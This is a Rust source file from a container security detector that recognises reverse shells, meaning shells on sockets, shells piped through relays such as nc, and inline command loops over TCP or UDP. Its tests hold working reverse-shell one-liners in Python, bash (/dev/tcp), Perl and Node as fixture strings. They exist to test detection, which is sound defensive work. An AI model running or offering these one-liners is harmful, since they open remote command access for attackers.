//! Shells that were connected to the network when watching began.

use std::net::SocketAddr;

use bstr::ByteSlice as _;
use smallvec::SmallVec;

use super::bare_shells::bare;
use super::fetched_commands;
use super::reverse_alert::{is_fetch, reverse_alert};
use crate::catalog;
use crate::detect::alert::Alerts;
use crate::detect::memory::Outbound;
use crate::detect::rule_context::RuleContext;
use crate::detect::rule_memory::RuleMemory;
use crate::detect::{Severity, attribution, program_roles};
use crate::event::{Bytes, Endpoint, Process, Protocol, Stream};
use crate::state::{Direction, ProcessEntry};

/// Maximum number of processes with pipes remembered of one container.
const MAX_PIPED: usize = 512;

/// Processes of a container that were found with pipes as their streams.
#[derive(Debug, Clone, Default)]
pub(super) struct Piped(Vec<PipedProcess>);

#[derive(Debug, Clone)]
struct PipedProcess {
    pid: u32,
    /// The process reads its commands from its input.
    waits: bool,
    /// Inodes of the pipes.
    pipes: SmallVec<[u64; 3]>,
}

impl RuleMemory for Piped {
    fn heap_bytes(&self) -> usize {
        self.0.len() * size_of::<PipedProcess>()
    }
}

pub(super) fn examine(ctx: &RuleContext<'_>, memory: &mut Piped, process: &Process) -> Alerts {
    let pid = ctx.event.pid;
    let exec = process.as_exec();
    let waits = bare(ctx.names(), &exec) && !ctx.ancestors().any(attribution::lets_people_in);
    let (shell, peer) = if waits {
        (
            pid,
            own_peer(process)
                .or_else(|| seen_peer(ctx, process))
                .or_else(|| parents_peer(ctx, process)),
        )
    } else {
        (pid, None)
    };
    let (shell, peer) = match peer {
        Some(_) => (shell, peer),
        None if inline_loop(ctx, process) => match ctx.process.and_then(|p| loops_peer(ctx, p)) {
            Some(peer) => (pid, Some(peer)),
            None => (pid, None),
        },
        None => by_pipe(ctx, memory, process, waits).map_or((pid, None), |(s, p)| (s, Some(p))),
    };
    remember(memory, pid, process, waits);
    let Some(to) = peer else {
        return datagram_loop(ctx, process);
    };
    let out = Outbound {
        to,
        started: process.started,
        ts: ctx.now(),
        seq: ctx.event.seq,
    };
    let entry = ctx.state.processes.get(&shell);
    let command = entry.map_or_else(String::new, |p| {
        program_roles::command_line(&p.argv, &p.exe, 160)
    });
    let mut alert = reverse_alert(ctx, &out, &command).follows(shell);
    if shell != pid {
        let relay = program_roles::command_line(&process.argv, &process.exe, 160);
        alert = alert.reason(format!("fed through a pipe by: {relay}"));
    }
    alert.into()
}

/// Whether a program given as an argument, not the container's own, reads from a peer and runs
/// commands; it need not have run one since watching began. A process that began with the container
/// is its service, unless the program's text is not in the container's command: a process may have
/// become another program since.
fn inline_loop(ctx: &RuleContext<'_>, process: &Process) -> bool {
    let own = ctx
        .container
        .and_then(crate::state::Container::init)
        .is_none_or(|init| init == ctx.event.pid);
    let typed = ctx.process.is_some_and(|p| {
        attribution::inline(ctx.names(), p) || ctx.names().is_shell(program_roles::of(p))
    });
    let own = own || ctx.made_at_start(process.started);
    if !typed || own && !replaced(ctx, process) {
        return false;
    }
    let contains_any = |words: &[&[u8]]| {
        let mut arguments = process.argv.iter().skip(1);
        arguments.any(|argument| words.iter().any(|word| argument.contains_str(word)))
    };
    let runs_variable = |argument: &Bytes| fetched_commands::runs_a_variable(argument);
    contains_any(catalog::words::TALKS)
        && contains_any(catalog::words::RECEIVES)
        && (contains_any(catalog::words::RUNS_COMMANDS)
            || ctx
                .process
                .is_some_and(|p| ctx.names().is_shell(program_roles::of(p)))
                && process.argv.iter().skip(1).any(runs_variable))
}

/// A command loop whose datagram socket has no peer: it answers whoever sends, or names its peer with
/// each datagram.
fn datagram_loop(ctx: &RuleContext<'_>, process: &Process) -> Alerts {
    let contains_any = |words: &[&[u8]]| {
        let mut arguments = process.argv.iter().skip(1);
        arguments.any(|argument| words.iter().any(|word| argument.contains_str(word)))
    };
    let answers = contains_any(catalog::words::DATAGRAMS)
        && contains_any(catalog::words::TAKES_DATAGRAMS)
        && contains_any(&[b"send"]);
    if !answers || !inline_loop(ctx, process) {
        return Alerts::none();
    }
    let command = program_roles::command_line(&process.argv, &process.exe, 160);
    let alert = ctx.alert(Severity::High, process.exe.as_bytes(), |explanation| {
        explanation.title = "Runs the commands that datagrams bring".to_owned();
        explanation.why.push(format!("program: {command}"));
        explanation
            .why
            .push("its socket has no fixed peer".to_owned());
    });
    alert.follows(ctx.event.pid).into()
}

/// Whether a process that began with the container runs a text that the container's command does
/// not contain. This needs a known command that is not a shell's, which may start anything.
fn replaced(ctx: &RuleContext<'_>, process: &Process) -> bool {
    let command = ctx.container.map_or(&[][..], |c| &c.info.command);
    let Some(program) = command.first() else {
        return false;
    };
    let script = ctx.names().is_shell(program_roles::leaf(program)) || program.ends_with(b".sh");
    let has = |text: &Bytes| {
        command
            .iter()
            .any(|given| given.contains_str(text.as_bytes()))
    };
    let mut texts = process.argv.iter().skip(1).filter(|a| a.contains(&b' '));
    !script && texts.any(|text| !has(text))
}

fn remember(memory: &mut Piped, pid: u32, process: &Process, waits: bool) {
    let pipes: SmallVec<[u64; 3]> = pipes(process).collect();
    if !pipes.is_empty() && memory.0.len() < MAX_PIPED {
        memory.0.push(PipedProcess { pid, waits, pipes });
    }
}

fn pipes(process: &Process) -> impl Iterator<Item = u64> {
    process.streams.iter().filter_map(|stream| match stream {
        Stream::Pipe(inode) => Some(*inode),
        _ => None,
    })
}

/// The peer of a socket that is the process's input or output.
pub(super) fn own_peer(process: &Process) -> Option<SocketAddr> {
    process.streams.iter().find_map(|stream| match stream {
        Stream::Peer(peer) => Some(*peer),
        _ => None,
    })
}

/// The peer of a shell that was seen to start before this recording began: its streams were not read,
/// but its connections are known.
fn seen_peer(ctx: &RuleContext<'_>, process: &Process) -> Option<SocketAddr> {
    let typed = ctx.session().is_some() && process.tty;
    let unknown = process.streams.is_empty() && !typed;
    ctx.process
        .filter(|_| unknown)
        .and_then(|p| connected(ctx, p))
}

/// A relay or an interpreter above it is connected, and passes on the data that it reads.
fn parents_peer(ctx: &RuleContext<'_>, process: &Process) -> Option<SocketAddr> {
    // At a terminal of an exec session a person types.
    let typed = ctx.session().is_some() && process.tty;
    let fed = matches!(
        process.streams.first(),
        // None are known of a process that was seen to start before this recording began.
        Some(Stream::Terminal | Stream::Pipe(_) | Stream::Socket) | None
    );
    if typed || !fed {
        return None;
    }
    let parent = ctx.ancestors().nth(1)?;
    let relays = program_roles::is_relay(program_roles::of(parent), &parent.argv)
        || attribution::inline(ctx.names(), parent);
    if !relays {
        return None;
    }
    let mut line = ctx.ancestors().skip(1).take(3);
    line.find_map(|above| (above.exe == parent.exe).then(|| connected(ctx, above))?)
}

/// The peer outside the container to which a process is connected.
pub(super) fn connected(ctx: &RuleContext<'_>, process: &ProcessEntry) -> Option<SocketAddr> {
    connected_over(ctx, process, &[Protocol::Tcp, Protocol::Udp])
}

/// The same by one of these protocols. Every program looks up names, sends logs and asks the time.
fn connected_over(
    ctx: &RuleContext<'_>,
    process: &ProcessEntry,
    protocols: &[Protocol],
) -> Option<SocketAddr> {
    let rows = ctx.state.connections_of(ctx.owner, Direction::Outbound);
    let mut own = rows.filter(|(key, row)| {
        // The end of a datagram socket is not reported.
        let open = row.open > 0 || key.protocol == Protocol::Udp;
        row.pid == process.pid && open && protocols.contains(&key.protocol)
    });
    own.find_map(|(key, _)| match key.endpoint {
        Endpoint::Inet(to) if !to.ip().is_loopback() && !matches!(to.port(), 53 | 123 | 514) => {
            Some(to)
        }
        _ => None,
    })
}

/// The peer that inline code with a command loop is connected to. Programs that only send
/// measurements over UDP do not hear their peer.
fn loops_peer(ctx: &RuleContext<'_>, process: &ProcessEntry) -> Option<SocketAddr> {
    let hears: &[&[u8]] = &[b"recv", b"<&", b"<$"];
    let mut arguments = process.argv.iter().skip(1);
    let both: &[Protocol] = &[Protocol::Tcp, Protocol::Udp];
    let protocols = match arguments.any(|text| hears.iter().any(|word| text.contains_str(word))) {
        true => both,
        false => &[Protocol::Tcp],
    };
    connected_over(ctx, process, protocols)
}

/// A waiting shell that shares a pipe with a connected process: the shell, and the peer. Either of
/// the two may be found first.
fn by_pipe(
    ctx: &RuleContext<'_>,
    memory: &Piped,
    process: &Process,
    waits: bool,
) -> Option<(u32, SocketAddr)> {
    let entry = ctx.process?;
    let shares = |other: &&PipedProcess| pipes(process).any(|pipe| other.pipes.contains(&pipe));
    let mut beside = memory.0.iter().filter(shares);
    if waits {
        return beside.find_map(|other| {
            let other = ctx.state.processes.get(&other.pid)?;
            let peer = relay(ctx, other)?;
            Some((entry.pid, peer))
        });
    }
    let peer = relay(ctx, entry)?;
    let shell = beside.find(|other| other.waits)?;
    Some((shell.pid, peer))
}

/// The peer of a process that relays; the rule on pipes covers one that fetches.
fn relay(ctx: &RuleContext<'_>, process: &ProcessEntry) -> Option<SocketAddr> {
    if is_fetch(ctx, process.pid) {
        return None;
    }
    connected(ctx, process)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use crate::detect::Severity;
    use crate::detect::testkit::World;
    use crate::event::Stream;

    const PEER: &str = "10.9.8.7:4444";

    fn sockets() -> Vec<Stream> {
        vec![Stream::Peer(PEER.parse().unwrap()); 3]
    }

    #[test]
    fn a_shell_on_a_socket() {
        let mut w = World::found();
        let init = w.init();
        w.found_process(init, "/bin/bash", &["bash", "-i"], |p| {
            p.streams = sockets()
        });
        let f = w.finding("net.reverse-shell");
        assert_eq!(f.severity, Severity::Critical);
        assert!(f.already_since.is_some() && f.title.contains(PEER));
        // A script that serves one connection, as below inetd, has its program with it.
        let mut w = World::found();
        let init = w.init();
        w.found_process(init, "/bin/sh", &["sh", "/srv/serve.sh"], |p| {
            p.streams = sockets();
        });
        w.only(&[]);
    }

    #[test]
    fn a_shell_that_was_seen_to_connect_is_in_a_recording_that_begins_later() {
        let again = |w: &World| {
            let mut core = crate::core::Core::default();
            for event in crate::state::snapshot(&w.state, 1) {
                core.apply(&std::sync::Arc::new(event));
            }
            let found = core.detector.findings().iter();
            found.filter(|f| f.rule == "net.reverse-shell").count()
        };
        // The connected process becomes the shell, or starts it.
        let mut w = World::steady();
        let init = w.init();
        let p = w.fork(init);
        w.connect(p, PEER);
        w.exec_as(p, init, "/bin/bash", &["bash", "-i"], |_| {});
        assert_eq!((w.all("net.reverse-shell").len(), again(&w)), (1, 1));
        let mut w = World::steady();
        let init = w.init();
        let p = w.exec(init, "/usr/bin/python3", &["python3", "-c", "x"]);
        w.connect(p, PEER);
        w.exec(p, "/bin/sh", &["/bin/sh", "-i"]);
        assert_eq!((w.all("net.reverse-shell").len(), again(&w)), (1, 1));
        // A script with a connection, and a shell without one.
        for (argv, connected) in [(&["sh", "/srv/serve.sh"][..], true), (&["sh"], false)] {
            let mut w = World::steady();
            let init = w.init();
            let p = w.exec(init, "/bin/sh", argv);
            if connected {
                w.connect(p, PEER);
            }
            assert_eq!((w.all("net.reverse-shell").len(), again(&w)), (0, 0));
        }
    }

    #[test]
    fn an_inline_command_loop_that_waits_for_its_next_command() {
        let judged = |exe: &str, argv: &[&str]| {
            let mut w = World::found();
            let init = w.init();
            w.found_socket(0, "10.0.0.2:50000", Some(PEER));
            w.found_process(init, exe, argv, |_| {});
            w.all("net.reverse-shell").first().map(|f| f.severity)
        };
        let python = "import socket,subprocess as p\ns=socket.create_connection(('h',4444))\n\
                      while 1: s.send(p.getoutput(s.recv(99)).encode())";
        let bash = "exec 3<>/dev/tcp/h/4444; while read l <&3; do eval \"$l\" >&3; done";
        for (exe, argv) in [
            ("/usr/bin/python3", ["python3", "-c", python]),
            ("/bin/bash", ["bash", "-c", bash]),
            (
                "/usr/bin/perl",
                ["perl", "-e", "use IO::Socket; while(<$s>){print $s `$_`}"],
            ),
        ] {
            assert_eq!(judged(exe, &argv), Some(Severity::Critical), "{argv:?}");
        }
        // A worker that a pool starts, a probe, and a client that runs nothing.
        for argv in [
            [
                "python3",
                "-c",
                "from multiprocessing.spawn import spawn_main",
            ],
            [
                "python3",
                "-c",
                "import socket; socket.create_connection(('h',5432))",
            ],
            [
                "python3",
                "-c",
                "import socket,subprocess; s=socket.create_connection(('h',514))\n\
                 while 1: s.send(subprocess.check_output('uptime'))",
            ],
            ["python3", "/app/socket_subprocess.py", "x"],
        ] {
            assert_eq!(judged("/usr/bin/python3", &argv), None, "{argv:?}");
        }
        // It began with the container.
        let mut w = World::found();
        let init = w.init();
        w.found_socket(0, "10.0.0.2:50000", Some(PEER));
        w.found_process(init, "/usr/bin/python3", &["python3", "-c", python], |p| {
            p.started = crate::event::Timestamp(1_700_000_001_000_000_000);
        });
        w.none("net.reverse-shell");
    }

    #[test]
    fn a_command_loop_on_datagrams_without_a_peer() {
        let judged = |exe: &str, text: &str, at_start: bool| {
            let mut w = World::found();
            let init = w.init();
            let option = if exe.ends_with("python3") { "-c" } else { "-e" };
            w.found_process(init, exe, &[exe, option, text], |p| {
                if at_start {
                    p.started = crate::event::Timestamp(1_700_000_001_000_000_000);
                }
            });
            w.all("net.reverse-shell").first().map(|f| f.severity)
        };
        let (python, perl, node) = ("/usr/bin/python3", "/usr/bin/perl", "/usr/bin/node");
        let loop_of_python = "import socket,subprocess\ns=socket.socket(2,socket.SOCK_DGRAM)\n\
            while 1:\n d,a=s.recvfrom(999); s.sendto(subprocess.getoutput(d.decode()).encode(),a)";
        let loop_of_perl = "use Socket; socket(S,PF_INET,SOCK_DGRAM,17);\
            while($a=recv(S,$d,999,0)){send(S,`$d`,0,$a)}";
        let loop_of_node = "const s=require('dgram').createSocket('udp4');\
            s.on('message',(m,r)=>s.send(require('child_process').execSync(m+''),r.port,r.address))";
        for (exe, text) in [
            (python, loop_of_python),
            (perl, loop_of_perl),
            (node, loop_of_node),
        ] {
            assert_eq!(judged(exe, text, false), Some(Severity::High), "{text}");
            assert_eq!(judged(exe, text, true), None, "{text}");
        }
        // It only sends, or runs nothing.
        for text in [
            "import socket,subprocess\ns=socket.socket(2,socket.SOCK_DGRAM)\nwhile 1: s.sendto(subprocess.check_output('cat x'),p)",
            "import socket\nwhile 1:\n d,a=s.recvfrom(99); s.sendto(d,a)",
        ] {
            assert_eq!(judged(python, text, false), None, "{text}");
        }
    }

    #[test]
    fn a_shell_behind_a_fifo_in_either_order() {
        for relay_first in [true, false] {
            let mut w = World::found();
            let init = w.init();
            let shell = |w: &mut World| {
                w.found_process(init, "/bin/sh", &["sh", "-i"], |p| {
                    p.streams = vec![Stream::Pipe(1), Stream::Pipe(2), Stream::Pipe(2)];
                });
            };
            w.found_socket(u32::from(!relay_first), "10.0.0.2:50000", Some(PEER));
            if !relay_first {
                shell(&mut w);
            }
            w.found_process(init, "/usr/bin/nc", &["nc", "10.9.8.7", "4444"], |p| {
                p.streams = vec![Stream::Pipe(2), Stream::Pipe(3), Stream::Other];
            });
            if relay_first {
                shell(&mut w);
            }
            assert_eq!(w.finding("net.reverse-shell").severity, Severity::Critical);
        }
    }

    #[test]
    fn pipes_without_a_peer_and_terminals_of_people_are_silent() {
        let mut w = World::found();
        let init = w.init();
        let piped = |n| vec![Stream::Pipe(n), Stream::Pipe(n + 1), Stream::Other];
        w.found_socket(0, "10.0.0.2:50000", Some("10.0.0.3:5432"));
        w.found_process(init, "/usr/bin/java", &["java", "-jar", "x"], |p| {
            p.streams = piped(10);
        });
        // It shares no pipe with the connected process.
        w.found_process(init, "/bin/sh", &["sh"], |p| p.streams = piped(20));
        w.none("net.reverse-shell");
        let mut w = World::found();
        w.found_process(0, "/bin/bash", &["bash"], |p| {
            p.tty = true;
            p.streams = vec![Stream::Terminal; 3];
        });
        w.only(&["exec.session"]);
    }

    #[test]
    fn an_interpreter_with_a_terminal_for_its_shell() {
        let mut w = World::found();
        let init = w.init();
        w.found_socket(0, "10.0.0.2:50000", Some(PEER));
        let python = w.found_process(init, "/usr/bin/python3", &["python3", "-c", "x"], |_| {});
        w.found_process(python, "/bin/bash", &["/bin/bash"], |p| {
            p.tty = true;
            p.streams = vec![Stream::Terminal; 3];
        });
        w.only(&["net.reverse-shell"]);
    }
}
